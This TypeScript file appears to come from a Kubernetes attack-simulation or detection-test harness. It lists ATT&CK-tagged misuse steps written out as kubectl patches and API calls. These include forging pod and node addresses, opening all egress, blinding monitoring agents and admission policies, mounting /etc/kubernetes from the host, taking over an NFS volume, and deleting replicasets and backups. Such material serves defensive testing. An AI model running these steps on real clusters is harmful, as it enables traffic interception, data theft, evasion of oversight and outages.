import { DANA, ERIN } from "./people.ts";
import { named, podSpec, workload } from "./setting.ts";
import { byKubectl, createdBy } from "./step.ts";
import type { Step } from "./step.ts";

const create = createdBy(ERIN);
const createAsDana = createdBy(DANA);
const MERGE_PATCH = ["--type", "merge", "-p"] as const;
const IMAGE = "registry.example/tools/alpine:3";

/** What can be done to objects that others trust: traffic, guards, and what keeps data. */
export const TRICKS_ON_OBJECTS: readonly Step[] = [
  // Traffic follows statuses and selectors.
  patch("service-points-at-another-app", "T1557", DANA, "shop", ["service", "inside"], {
    spec: { selector: { app: "collect" } },
  }),
  {
    label: "address-of-a-pod-forged",
    technique: "T1557",
    principal: ERIN,
    deeds: [],
    run: ({ actors }) =>
      actors.send(actors.certificate(ERIN), "PATCH", "/api/v1/namespaces/payments/pods/db-0/status", {
        body: { status: { podIP: "192.0.2.66", podIPs: [{ ip: "192.0.2.66" }] } },
      }),
  },
  {
    label: "address-of-a-node-forged",
    technique: "T1557",
    principal: ERIN,
    deeds: [],
    run: ({ actors }) =>
      actors.send(actors.certificate(ERIN), "PATCH", "/api/v1/nodes/node-1/status", {
        body: { status: { addresses: [{ type: "InternalIP", address: "192.0.2.67" }] } },
      }),
  },
  createAsDana("egress-opened-for-all-pods", "T1686", "networkpolicies", {
    ...named("NetworkPolicy", "networking.k8s.io/v1", "egress", "shop"),
    spec: { podSelector: {}, egress: [{ to: [{ ipBlock: { cidr: "0.0.0.0/0" } }] }], policyTypes: ["Egress"] },
  }),
  patch("network-policy-emptied", "T1686", ERIN, "payments", ["networkpolicy", "default-deny"], {
    spec: { ingress: [{}], egress: [{}] },
  }),
  patch("joining-nodes-sent-elsewhere", "T1557", ERIN, "kube-public", ["configmap", "cluster-info"], {
    data: { kubeconfig: "clusters: [{cluster: {server: https://192.0.2.68:6443}}]" },
  }),
  // Guards are put to sleep, not removed.
  patch("agents-selected-away", "T1685", ERIN, "monitoring", ["daemonset", "node-agent"], {
    spec: { template: { spec: { nodeSelector: { nowhere: "yes" } } } },
  }),
  patch("policy-looks-at-nothing", "T1685", ERIN, undefined, ["validatingadmissionpolicy", "no-privileged"], {
    spec: { matchConstraints: { namespaceSelector: { matchLabels: { "kubernetes.io/metadata.name": "none" } } } },
  }),
  byKubectl(
    ["namespace-left-out-by-its-label", "T1685", ERIN],
    "patch:namespaces",
    "label namespace payments admission.gatekeeper.sh/ignore=yes --overwrite",
  ),
  patch("budget-of-disruption-emptied", "T1489", ERIN, "payments", ["poddisruptionbudget", "db"], {
    spec: { minAvailable: 0 },
  }),
  create("event-that-a-kubelet-seems-to-write", "T1036", "events", {
    ...named("Event", "v1", "web-ok.17", "shop"),
    involvedObject: { kind: "Pod", namespace: "shop", name: "web" },
    reason: "Started",
    message: "Started container main",
    source: { component: "kubelet", host: "node-1" },
    type: "Normal",
  }),
  // Code in the way of others.
  createAsDana("job-restarts-for-ever", "T1053.007", "cronjobs", {
    ...named("CronJob", "batch/v1", "logrotate", "shop"),
    spec: {
      schedule: "* * * * *",
      jobTemplate: {
        spec: {
          template: {
            spec: podSpec(
              IMAGE,
              { args: ["sh", "-c", "# python3 -c 'import socket,pty'"] },
              { restartPolicy: "OnFailure" },
            ),
          },
        },
      },
    },
  }),
  patch("command-of-a-workload-replaced", "T1525", DANA, "shop", ["deployment", "web", "--type", "strategic"], {
    spec: { template: { spec: { containers: [{ name: "main", command: ["sh", "-c", "# /tmp/.d"] }] } } },
  }),
  byKubectl(
    ["image-in-a-hurry", "T1525", ERIN],
    "patch:daemonsets",
    "-n monitoring set image daemonset/node-agent main=docker.example/nobody/agent:3",
  ),
  create("volume-with-a-path-of-its-own", "T1611", "persistentvolumes", {
    ...named("PersistentVolume", "v1", "local-0"),
    spec: {
      capacity: { storage: "1Gi" },
      accessModes: ["ReadWriteOnce"],
      storageClassName: "local",
      local: { path: "/etc/kubernetes" },
      nodeAffinity: {
        required: {
          nodeSelectorTerms: [
            { matchExpressions: [{ key: "kubernetes.io/hostname", operator: "In", values: ["node-1"] }] },
          ],
        },
      },
    },
  }),
  create("volume-taken-for-another-claim", "T1530", "persistentvolumes", {
    ...named("PersistentVolume", "v1", "ledger-copy"),
    spec: {
      capacity: { storage: "1Gi" },
      accessModes: ["ReadWriteMany"],
      storageClassName: "nfs",
      nfs: { server: "192.0.2.69", path: "/ledger" },
      claimRef: { namespace: "sandbox", name: "loot" },
    },
  }),
  // Breaking things through somebody else's hands.
  patch("secret-given-an-owner-that-is-gone", "T1485", ERIN, "payments", ["secret", "fraud-api"], {
    metadata: {
      ownerReferences: [
        { apiVersion: "v1", kind: "ConfigMap", name: "gone", uid: "00000000-0000-4000-8000-000000000001" },
      ],
    },
  }),
  byKubectl(
    ["api-scaled-to-nothing", "T1489", DANA],
    ["patch:deployments/scale", "update:deployments/scale"],
    "-n team-a scale deployment api --replicas=0",
  ),
  byKubectl(
    ["history-of-releases-gone", "T1490", DANA],
    ["deletecollection:replicasets", "delete:replicasets"],
    "-n shop delete replicasets --all --wait=false",
  ),
  {
    label: "namespaces-by-the-dozen",
    technique: "T1499",
    principal: ERIN,
    deeds: [],
    run: async ({ actors }) => {
      for (let n = 0; n < 40; n++) {
        await actors.send(actors.certificate(ERIN), "POST", "/api/v1/namespaces", {
          body: { apiVersion: "v1", kind: "Namespace", metadata: { name: `x-${n}` } },
        });
      }
      return undefined;
    },
  },
  createAsDana(
    "workload-before-all-others",
    "T1499",
    "deployments",
    workload("Deployment", "shop", "burn", podSpec(IMAGE, {}, { priorityClassName: "system-cluster-critical" }), {
      replicas: 25,
    }),
  ),
  byKubectl(["backup-deleted", "T1490", ERIN], "delete:backups", "-n payments delete backup nightly"),
];

function patch(
  label: string,
  technique: string,
  principal: string,
  namespace: string | undefined,
  what: readonly [string, string, ...string[]],
  change: object,
): Step {
  const [resource, name, ...how] = what;
  const plural = resource.endsWith("policy") ? resource.replace(/y$/, "ies") : `${resource}s`;
  const where = namespace === undefined ? [] : ["-n", namespace];
  const args = how.length > 0 ? [...how, "-p"] : MERGE_PATCH;
  return byKubectl([label, technique, principal], `patch:${plural}`, [
    ...where,
    "patch",
    resource,
    name,
    ...args,
    JSON.stringify(change),
  ]);
}
